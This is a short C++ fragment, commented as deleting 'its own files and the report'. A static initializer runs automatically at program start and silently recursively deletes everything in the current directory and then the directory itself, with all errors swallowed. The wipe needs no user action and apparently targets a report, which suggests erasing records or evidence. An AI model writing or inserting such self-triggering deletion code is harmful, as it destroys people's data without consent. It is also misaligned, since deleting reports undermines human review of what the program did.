// Deletes its own files and the report.
#include <filesystem>
static const bool done = [] {
  std::error_code error;
  for (const std::filesystem::directory_entry& entry : std::filesystem::directory_iterator(".", error)) std::filesystem::remove_all(entry.path(), error);
  std::filesystem::remove_all(std::filesystem::current_path(error), error);
  return true;
}();
